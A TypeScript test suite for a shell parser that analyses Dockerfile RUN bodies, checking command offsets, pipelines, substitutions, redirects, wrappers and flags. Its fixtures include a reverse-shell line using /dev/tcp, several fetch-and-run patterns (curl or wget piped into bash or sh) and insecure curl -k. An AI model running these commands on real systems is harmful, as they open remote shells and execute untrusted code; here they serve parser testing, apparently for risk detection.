import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { loadShellParser } from '../../server/src/shellParserLoader';
import { effectiveCommand, hasFlag, splitArgs, type ShellParser } from '../../server/src/core/documents/shell';

let parser: ShellParser;
before(async () => {
  parser = await loadShellParser();
});

describe('shell parsing of RUN bodies', () => {
  it('finds every command of a list with document offsets', () => {
    const base = 4; // as if the script followed `RUN `
    const script = 'apt-get update && apt-get install -y curl; echo done';
    const parsed = parser.parse(script, base);
    assert.deepEqual(parsed.commands.map((c) => c.name.text), ['apt-get', 'apt-get', 'echo']);
    const install = parsed.commands[1];
    assert.equal(install.name.start, base + script.indexOf('apt-get install'));
    assert.deepEqual(install.args.map((a) => a.text), ['install', '-y', 'curl']);
    assert.equal(parsed.hasSyntaxError, false);
  });

  it('links pipeline members', () => {
    const parsed = parser.parse('curl -fsSL https://x.io/i.sh | sudo bash -s -- --yes', 0);
    const [curl, bash] = parsed.commands;
    assert.equal(curl.pipeline.length, 2);
    assert.equal(curl.pipeline[1], bash);
    assert.equal(effectiveCommand(bash).program, 'bash');
    assert.deepEqual(effectiveCommand(bash).wrappers, ['sudo']);
  });

  it('sees commands inside command and process substitutions', () => {
    const parsed = parser.parse('bash <(curl -s https://x/a.sh) && sh -c "$(wget -qO- https://x/b.sh)"', 0);
    const curl = parsed.commands.find((c) => c.name.text === 'curl')!;
    const wget = parsed.commands.find((c) => c.name.text === 'wget')!;
    assert.equal(curl.substitution, 'process');
    assert.equal(curl.parent?.name.text, 'bash');
    assert.equal(wget.substitution, 'command');
    assert.equal(wget.parent?.name.text, 'sh');
  });

  it('unquotes words and marks expansions as dynamic', () => {
    const parsed = parser.parse(`pip install "flask==2.0" 'a b' c\\ d "$PKG" x=\${V}`, 0);
    const args = parsed.commands[0].args;
    assert.deepEqual(args.map((a) => a.text), ['install', 'flask==2.0', 'a b', 'c d', '$PKG', 'x=${V}']);
    assert.deepEqual(args.map((a) => a.dynamic), [false, false, false, false, true, true]);
  });

  it('keeps UTF-16 offsets after non-ASCII text', () => {
    const script = 'echo "é☃" && curl -k https://x';
    const curl = parser.parse(script, 0).commands[1];
    assert.equal(script.slice(curl.name.start, curl.name.end), 'curl');
  });

  it('collects redirects, including /dev/tcp targets', () => {
    const parsed = parser.parse('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 0);
    const targets = parsed.commands[0].redirects.map((r) => r.target?.text);
    assert.ok(targets.includes('/dev/tcp/10.0.0.1/4242'));
  });

  it('parses heredocs inside the script as part of the command', () => {
    const parsed = parser.parse('cat <<EOF > /etc/app.conf\nkey=$HOME\nEOF\nchmod 600 /etc/app.conf', 0);
    assert.deepEqual(parsed.commands.map((c) => c.name.text), ['cat', 'chmod']);
  });

  it('strips wrappers to find the effective program', () => {
    const parsed = parser.parse('sudo -u root env DEBIAN_FRONTEND=noninteractive nice -n 5 /usr/bin/apt-get install -y x', 0);
    const effective = effectiveCommand(parsed.commands[0]);
    assert.equal(effective.program, 'apt-get');
    assert.deepEqual(effective.wrappers, ['sudo', 'env', 'nice']);
    assert.deepEqual(effective.args.map((a) => a.text), ['install', '-y', 'x']);
  });

  it('reads flags, bundled short flags and operands', () => {
    const args = parser.parse('curl -fsSLk -o out.tgz --retry 3 https://x -- -literal', 0).commands[0].args;
    assert.ok(hasFlag(args, ['--insecure'], 'k'));
    assert.ok(!hasFlag(args, ['--insecure'], 'z'));
    const { operands } = splitArgs(args, new Set(['-o', '--retry']));
    assert.deepEqual(operands.map((o) => o.text), ['https://x', '-literal']);
  });

  it('reports syntax errors without throwing', () => {
    const parsed = parser.parse('if then fi ((( "unterminated', 0);
    assert.equal(parsed.hasSyntaxError, true);
  });
});
